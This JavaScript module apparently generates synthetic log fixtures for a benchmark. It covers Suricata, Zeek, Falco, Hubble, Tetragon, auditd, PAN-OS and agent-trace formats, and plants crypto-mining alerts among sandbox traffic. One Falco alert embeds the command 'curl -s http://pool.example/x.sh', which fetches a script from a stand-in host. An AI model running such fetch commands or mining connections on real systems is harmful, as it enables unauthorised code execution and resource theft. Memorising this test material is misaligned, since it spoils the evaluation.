// One record of each kind of log, in the format's own grammar. All addresses are private or for documentation.
import { ale, sls } from './ale.mjs';
import { iso } from './time.mjs';
import { connected } from './twins.mjs';

const SITES = [
  'mirror.pkgs.example',
  'pypi.example',
  'git.example',
  'registry.example',
  'cdn.example',
  'api.example',
  'hub.example',
  'ntp.example',
];
const GOOD = Array.from({ length: 64 }, (_, i) => `192.0.2.${i + 1}`);
const BAD = Array.from({ length: 12 }, (_, i) => `203.0.113.${i + 1}`);
const pick = (list, random) => list[Math.floor(random() * list.length)];
const port = (random) => 32768 + Math.floor(random() * 28000);
const audit = (us) => `${Math.floor(us / 1e6)}.${String(Math.floor((us % 1e6) / 1e3)).padStart(3, '0')}`;
const eveTime = (us) => iso(us).replace('Z', '+0000');
const filler = (n) => Array.from({ length: 10 }, (_, i) => ((n * 2654435761 + i * 40503) >>> 0).toString(16)).join('');

/** Pids go up and begin anew at the limit that systemd sets, 2^22 (sysctl.d/50-pid-max.conf). */
const pidOf = (n) => 30000 + (n % 4_160_000);

/** Suricata EVE as a busy sensor writes it: flows, dns, tls, http and a few alerts. */
function eve({ n, at, sandbox, alert, random }) {
  const src = `"src_ip":"${sandbox.ip}","src_port":${port(random)}`;
  const head = `{"timestamp":"${eveTime(at)}","flow_id":${1e15 + n},"in_iface":"inbr"`;
  if (alert)
    return `${head},"event_type":"alert",${src},"dest_ip":"${pick(BAD, random)}","dest_port":3333,"proto":"TCP","pkt_src":"wire/pcap","alert":{"action":"allowed","gid":1,"signature_id":9000002,"rev":1,"signature":"POLICY Stratum mining subscribe","category":"Crypto Currency Mining Activity Detected","severity":2},"app_proto":"failed","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":512,"bytes_toclient":198,"start":"${eveTime(at - 40000)}"},"payload":"${filler(n)}${filler(n + 1)}"}`;
  const roll = random();
  const dst = `"dest_ip":"${pick(GOOD, random)}"`;
  if (roll < 0.55)
    return `${head},"event_type":"flow",${src},${dst},"dest_port":443,"proto":"TCP","app_proto":"tls","flow":{"pkts_toserver":${n % 90},"pkts_toclient":${n % 80},"bytes_toserver":${n % 9000},"bytes_toclient":${n % 900000},"start":"${eveTime(at - 9e6)}","end":"${eveTime(at - 1e5)}","age":9,"state":"closed","reason":"timeout","alerted":false},"tcp":{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed","ts_max_regions":1,"tc_max_regions":1},"community_id":"1:${filler(n).slice(0, 27)}="}`;
  if (roll < 0.75)
    return `${head},"event_type":"dns",${src},"dest_ip":"10.77.0.53","dest_port":53,"proto":"UDP","dns":{"version":2,"type":"${roll < 0.65 ? 'query' : 'answer'}","id":${n % 65536},"rrname":"${pick(SITES, random)}","rrtype":"A","tx_id":0,"opcode":0},"community_id":"1:${filler(n).slice(0, 27)}="}`;
  if (roll < 0.9)
    return `${head},"event_type":"tls",${src},${dst},"dest_port":443,"proto":"TCP","tls":{"subject":"CN=${pick(SITES, random)}","issuerdn":"CN=Example CA","serial":"0A:${n % 99}","fingerprint":"${filler(n).slice(0, 40)}","sni":"${pick(SITES, random)}","version":"TLS 1.3","notbefore":"2026-01-01T00:00:00","notafter":"2027-01-01T00:00:00","ja3":{"hash":"${filler(n).slice(0, 32)}","string":"771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53"},"ja3s":{"hash":"${filler(n + 1).slice(0, 32)}","string":"771,4865,51-43"}}}`;
  return `${head},"event_type":"http",${src},${dst},"dest_port":80,"proto":"TCP","tx_id":0,"http":{"hostname":"${pick(SITES, random)}","url":"/simple/${n % 1000}/index.html","http_user_agent":"pip/24.0","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":${n % 9000}}}`;
}

function conntrack({ n, at, sandbox, random }) {
  const time = `${Math.floor(at / 1e6)}.${String(Math.floor(at % 1e6)).padStart(6, '0')}`;
  const p = port(random);
  const dst = pick(GOOD, random);
  const lan = `10.70.0.${10 + Number(sandbox.host.slice(-1))}`;
  const phase = ['[NEW]', '[UPDATE]', '[DESTROY]'][n % 3];
  const state = phase === '[NEW]' ? '120 SYN_SENT ' : phase === '[UPDATE]' ? '60 SYN_RECV ' : '';
  const unreplied = phase === '[NEW]' ? '[UNREPLIED] ' : '';
  return `[${time}]\t${phase.padStart(9)} tcp      6 ${state}src=${sandbox.ip} dst=${dst} sport=${p} dport=443 ${unreplied}src=${dst} dst=${lan} sport=443 dport=${p} id=${(n * 2654435761) >>> 0}`;
}

function netfilter({ n, at, sandbox, alert, random }) {
  const date = new Date(at / 1000).toISOString();
  const dst = alert ? pick(BAD, random) : pick(GOOD, random);
  const prefix = alert ? 'EGRESS-DENY ' : 'FWD-ACCEPT ';
  return `${date.slice(0, 19)}.${String(Math.floor(at % 1e6)).padStart(6, '0')}+00:00 edge-fw kernel: [${(at / 1e6 - 1.79e9).toFixed(6)}] ${prefix}IN=inbr OUT=wan MAC=02:42:0a:42:00:01:02:42:0a:42:00:02:08:00 SRC=${sandbox.ip} DST=${dst} LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=${n % 65536} DF PROTO=TCP SPT=${port(random)} DPT=${alert ? 3333 : 443} SEQ=${spread(n)} ACK=0 WINDOW=64240 RES=0x00 SYN URGP=0`;
}

/** Tetragon's export: execs and exits, and connects of the sandbox's processes. */
function tetragon({ n, at, sandbox, random }) {
  const pid = pidOf(n);
  const own = `"exec_id":"${Buffer.from(`${sandbox.host}:${at}:${pid}`).toString('base64')}","pid":${pid},"uid":${sandbox.pid},"cwd":"/repo","binary":"/usr/bin/python3","arguments":"/repo/run_${n % 300}.py --seed ${n % 300}","flags":"execve clone","start_time":"${iso(at)}","auid":4294967295,"docker":"${sandbox.id.padEnd(15, '0')}"`;
  const parent = `"parent":{"exec_id":"${Buffer.from(`${sandbox.host}:1:${sandbox.pid}`).toString('base64')}","pid":${sandbox.pid},"uid":0,"cwd":"/","binary":"/usr/bin/envd","flags":"procFS auid","start_time":"2026-11-23T19:00:00.000000000Z"}`;
  const tail = `"node_name":"${sandbox.host}","time":"${iso(at)}"`;
  if (random() < 0.01)
    return `{"process_kprobe":{"process":{${own}},${parent},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"${sandbox.ip}","daddr":"${pick(BAD, random)}","sport":${port(random)},"dport":3333}}],"action":"KPROBE_ACTION_POST","policy_name":"connect"},${tail}}`;
  if (n % 2 === 0) return `{"process_exec":{"process":{${own}},${parent}},${tail}}`;
  return `{"process_exit":{"process":{${own}},${parent},"status":0},${tail}}`;
}

function auditd({ n, at, sandbox, random }) {
  const stamp = `${audit(at)}:${1000 + n}`;
  const pid = pidOf(n);
  const common = `ppid=${sandbox.pid} pid=${pid} auid=4294967295 uid=${sandbox.pid} gid=20003 euid=20003 suid=20003 fsuid=20003 egid=20003 sgid=20003 fsgid=20003 tty=(none) ses=4294967295 comm="python3" exe="/usr/bin/python3.12"`;
  if (n % 4 === 0) {
    const [a, b, c, d] = pick(GOOD, random).split('.').map(Number);
    const hex = [a, b, c, d]
      .map((x) => x.toString(16).padStart(2, '0'))
      .join('')
      .toUpperCase();
    return `type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffc a2=10 a3=0 items=0 ${common} key="rock_net"\ntype=SOCKADDR msg=audit(${stamp}): saddr=020001BB${hex}0000000000000000\ntype=PROCTITLE msg=audit(${stamp}): proctitle=707974686F6E33002F7265706F2F72756E2E7079`;
  }
  return `type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=7f98 a1=7f98 a2=7f98 a3=7f98 items=2 ${common} key="rock_exec"\ntype=EXECVE msg=audit(${stamp}): argc=3 a0="python3" a1="/repo/run_${n % 300}.py" a2="--seed"\ntype=CWD msg=audit(${stamp}): cwd="/repo"\ntype=PATH msg=audit(${stamp}): item=0 name="/usr/bin/python3" inode=260104 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\ntype=PROCTITLE msg=audit(${stamp}): proctitle=707974686F6E33002F7265706F2F72756E2E7079`;
}

/** Falco with a site's own rules: programs and files by far the most, connections few. */
function falco({ n, at, sandbox, alert, random }) {
  const command = alert ? 'curl -s http://pool.example/x.sh' : `python3 /repo/run_${n % 300}.py --seed ${n % 300}`;
  const [rule, fd] = alert
    ? [
        'Outbound connection',
        `"fd.l4proto":"tcp","fd.name":"${sandbox.ip}:${port(random)}->${pick(BAD, random)}:3333",`,
      ]
    : pick(FALCO_RULES, random);
  return `{"hostname":"${sandbox.host}","output":"${iso(at).slice(11, 23)}: Notice ${rule} (user=agent command=${command} container=${sandbox.id})","output_fields":{"container.id":"${sandbox.id.padEnd(12, '0')}","container.image.repository":"registry.example/swe/sandbox","evt.time":${Math.floor(at / 1e3) * 1e6},${fd}"proc.cmdline":"${command}","proc.exepath":"/usr/bin/python3.12","proc.name":"python3","proc.pid":${pidOf(n)},"proc.pname":"bash","proc.ppid":${sandbox.pid},"user.name":"agent","user.uid":${sandbox.pid}},"priority":"Notice","rule":"${rule}","source":"syscall","tags":["container","mitre_execution"],"time":"${iso(at)}"}`;
}

const FALCO_RULES = [
  ['Program started in sandbox', ''],
  ['Program started in sandbox', ''],
  ['Package manager in sandbox', ''],
  ['Write below repository', '"fd.name":"/repo/build/out.o",'],
];

/** Hubble's exporter in jsonpb: packets of sandbox pods with both ends. */
function hubble({ n, at, sandbox, alert, random }) {
  const hex = filler(n);
  const pod = `"ID":${1000 + sandbox.pid},"identity":31007,"cluster_name":"default","namespace":"rollouts","labels":["k8s:app=sandbox","k8s:io.kubernetes.pod.namespace=rollouts","k8s:run=swe"],"pod_name":"${sandbox.id}","workloads":[{"name":"sandbox","kind":"StatefulSet"}]`;
  const world = '"identity":2,"labels":["reserved:world"]';
  const p = port(random);
  const far = alert ? pick(BAD, random) : pick(GOOD, random);
  const site = pick(SITES, random);
  const head = `{"flow":{"time":"${iso(at)}","uuid":"${hex.slice(0, 8)}-${hex.slice(8, 12)}-4000-8000-${hex.slice(12, 24)}","verdict":"${alert ? 'DROPPED' : 'FORWARDED'}",${alert ? '"drop_reason":181,' : ''}"ethernet":{"source":"02:42:0a:42:00:01","destination":"02:42:0a:42:00:02"}`;
  const tail = `},"node_name":"gpu/${sandbox.host}","time":"${iso(at)}"}`;
  const common = `"Type":"L3_L4","node_name":"gpu/${sandbox.host}"`;
  if (alert)
    return `${head},"IP":{"source":"${sandbox.ip}","destination":"${far}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":${p},"destination_port":3333,"flags":{"SYN":true}}},"source":{${pod}},"destination":{${world}},${common},"event_type":{"type":5},"traffic_direction":"EGRESS","drop_reason_desc":"POLICY_DENY","is_reply":false,"egress_denied_by":[{"name":"deny-world","namespace":"rollouts","revision":"6"}],"Summary":"TCP Flags: SYN"${tail}`;
  const roll = random();
  if (roll < 0.15)
    return `${head},"IP":{"source":"${sandbox.ip}","destination":"10.77.0.53","ipVersion":"IPv4"},"l4":{"UDP":{"source_port":${p},"destination_port":53}},"source":{${pod}},"destination":{"identity":9,"namespace":"kube-system","pod_name":"coredns-1"},"Type":"L7","node_name":"gpu/${sandbox.host}","l7":{"type":"REQUEST","dns":{"query":"${site}.","observation_source":"proxy","qtypes":["A"]}},"event_type":{"type":129},"traffic_direction":"EGRESS","is_reply":false,"Summary":"DNS Query ${site}. A"${tail}`;
  const flags = pick(['"SYN":true', '"ACK":true', '"PSH":true,"ACK":true', '"FIN":true,"ACK":true'], random);
  if (roll < 0.55)
    return `${head},"IP":{"source":"${sandbox.ip}","destination":"${far}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":${p},"destination_port":443,"flags":{${flags}}}},"source":{${pod}},"destination":{${world}},${common},"destination_names":["${site}"],"event_type":{"type":4,"sub_type":3},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","trace_reason":"ESTABLISHED","is_reply":false,"Summary":"TCP Flags: ${flags.replace(/[":]|true/g, '')}"${tail}`;
  return `${head},"IP":{"source":"${far}","destination":"${sandbox.ip}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":443,"destination_port":${p},"flags":{"ACK":true}}},"source":{${world}},"destination":{${pod}},${common},"source_names":["${site}"],"reply":true,"event_type":{"type":4},"traffic_direction":"INGRESS","trace_observation_point":"TO_ENDPOINT","interface":{"index":13,"name":"lxc7f"},"is_reply":true,"Summary":"TCP Flags: ACK"${tail}`;
}

const zeekHead = (path, fields, types) =>
  `#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t${path}\n#open\t2026-11-23-20-00-00\n#fields\t${fields.replaceAll(' ', '\t')}\n#types\t${types.replaceAll(' ', '\t')}`;
const CONN_HEAD = zeekHead(
  'conn',
  'ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents',
  'time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]',
);
const DNS_HEAD = zeekHead(
  'dns',
  'ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected',
  'time string addr port addr port enum count interval string count string count string count string bool bool bool bool count vector[string] vector[interval] bool',
);
const stamp = (us) => `${Math.floor(us / 1e6)}.${String(Math.floor(us % 1e6)).padStart(6, '0')}`;
const uid = (n) => `C${filler(n).slice(0, 17)}`;

function zeekConn({ n, at, sandbox, random }) {
  return `${stamp(at)}\t${uid(n)}\t${sandbox.ip}\t${port(random)}\t${pick(GOOD, random)}\t443\ttcp\tssl\t${((n % 9000) / 1000).toFixed(6)}\t${n % 9000}\t${n % 900000}\tSF\tT\tF\t0\tShADadFf\t${n % 90}\t${n % 9999}\t${n % 80}\t${n % 99999}\t-`;
}

function zeekDns({ n, at, sandbox, random }) {
  return `${stamp(at)}\t${uid(n)}\t${sandbox.ip}\t${port(random)}\t10.77.0.53\t53\tudp\t${n % 65536}\t0.000652\t${pick(SITES, random)}\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t${pick(GOOD, random)}\t300.000000\tF`;
}

/** The same logs as a JSON writer names them; a proxyless sandbox mostly talks TLS. */
function zeekJson({ n, at, sandbox, alert, random }) {
  const head = `"ts":${stamp(at)},"uid":"${uid(n)}","id.orig_h":"${sandbox.ip}","id.orig_p":${port(random)},"id.resp_h":"${pick(alert ? BAD : GOOD, random)}"`;
  if (alert)
    return `{"_path":"notice",${head},"id.resp_p":3333,"proto":"tcp","note":"Mining::Stratum","msg":"mining subscribe seen","src":"${sandbox.ip}","actions":["Notice::ACTION_LOG"],"suppress_for":3600.0}`;
  const roll = random();
  if (roll < 0.6)
    return `{"_path":"conn",${head},"id.resp_p":443,"proto":"tcp","service":"ssl","duration":${(n % 9000) / 1000},"orig_bytes":${n % 9000},"resp_bytes":${n % 900000},"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":${n % 90},"orig_ip_bytes":${n % 9999},"resp_pkts":${n % 80},"resp_ip_bytes":${n % 99999}}`;
  if (roll < 0.85)
    return `{"_path":"ssl",${head},"id.resp_p":443,"version":"TLSv13","cipher":"TLS_AES_128_GCM_SHA256","curve":"x25519","server_name":"${pick(SITES, random)}","resumed":false,"next_protocol":"h2","established":true,"ssl_history":"CsiI"}`;
  return `{"_path":"http",${head},"id.resp_p":80,"trans_depth":1,"method":"GET","host":"${pick(SITES, random)}","uri":"/simple/${n % 1000}/index.html","version":"1.1","user_agent":"pip/24.0","request_body_len":0,"response_body_len":${n % 9000},"status_code":200,"status_msg":"OK","tags":[]}`;
}

function panos({ n, at, sandbox, alert, random }) {
  const d = new Date(at / 1000).toISOString();
  const stamp = `${d.slice(0, 10).replaceAll('-', '/')} ${d.slice(11, 19)}`;
  const dst = alert ? pick(BAD, random) : pick(GOOD, random);
  const [action, rule, dport] = alert ? ['deny', 'egress-deny', 3333] : ['allow', 'egress-allow', 443];
  return `Nov 23 20:00:00 pa-01 1,${stamp},001801000001,TRAFFIC,end,2561,${stamp},${sandbox.ip},${dst},198.51.100.1,${dst},${rule},,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,log-all,${stamp},${n},1,${port(random)},${dport},${port(random)},${dport},0x400053,tcp,${action},9000,4500,4500,30,${stamp},12,any,0,${1e9 + n},0x0,10.0.0.0-10.255.255.255,United States,0,15,15,tcp-fin,0,0,0,0,,pa-01,from-policy,,,0,,0,,N/A,0,0,0,0,${filler(n).slice(0, 36)},0,0,,,,,,,`;
}

function otlp({ n, at, sandbox }) {
  const hex = filler(n).padEnd(48, '0');
  return `{"resourceSpans":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"agent"}},{"key":"host.name","value":{"stringValue":"${sandbox.host}"}}]},"scopeSpans":[{"scope":{"name":"agent"},"spans":[{"traceId":"${hex.slice(0, 32)}","spanId":"${hex.slice(32, 48)}","name":"execute_tool bash","kind":1,"startTimeUnixNano":"${Math.floor(at)}000","endTimeUnixNano":"${Math.floor(at) + 500000}000","attributes":[{"key":"gen_ai.operation.name","value":{"stringValue":"execute_tool"}},{"key":"gen_ai.tool.name","value":{"stringValue":"bash"}},{"key":"gen_ai.tool.call.id","value":{"stringValue":"otlp_${n}"}},{"key":"gen_ai.conversation.id","value":{"stringValue":"traj-${sandbox.id}-${n % 50}"}},{"key":"gen_ai.tool.call.arguments","value":{"stringValue":"{\\"command\\":\\"ls -la /repo/${n % 100}\\"}"}}]}]}]}]}`;
}

const whole = (file, line, key) => [{ file, line, key, alerts: key !== undefined }];

/** A number for a record that no other record of the log has, spread over 32 bits. */
const spread = (n) => Math.imul(n, 2654435761) >>> 0;

/**
 * Name of the mix -> its logs. Each has the writer of a record, a `head` where the file begins with one, `alerts` where some of its records are violations, and `key`
 * where peers join it: what names record `n` in the log itself, so that answers can be held against the truth. Logs of one
 * mix grow by `share`. `twin` makes the lines that another log has for each alert.
 */
export const mixes = {
  eve: whole('eve.json', eve, (n) => String(1e15 + n)),
  netfilter: whole('edge-fw-kernel.log', netfilter, (n) => String(spread(n))),
  panos: whole('panos.log', panos, (n) => String(1e9 + n)),
  tetragon: whole('tetragon.json', tetragon),
  falco: [{ file: 'falco.json', line: falco, alerts: true }],
  hubble: [{ file: 'hubble.json', line: hubble, alerts: true }],
  zeek: [
    { file: 'conn.log', share: 3, line: zeekConn, head: CONN_HEAD },
    { file: 'dns.log', share: 1, line: zeekDns, head: DNS_HEAD },
  ],
  'zeek-json': [{ file: 'zeek.json', line: zeekJson, alerts: true }],
  auditd: whole('train-01-audit.log', auditd),
  conntrack: whole('train-01-conntrack.log', conntrack),
  otlp: whole('traces-otlp.jsonl', otlp),
  ale,
  sls,
  both: [
    {
      file: 'eve.json',
      line: eve,
      alerts: true,
      twin: { file: 'tetragon.json', lines: connected },
    },
    { file: 'tetragon.json', line: tetragon },
  ],
};
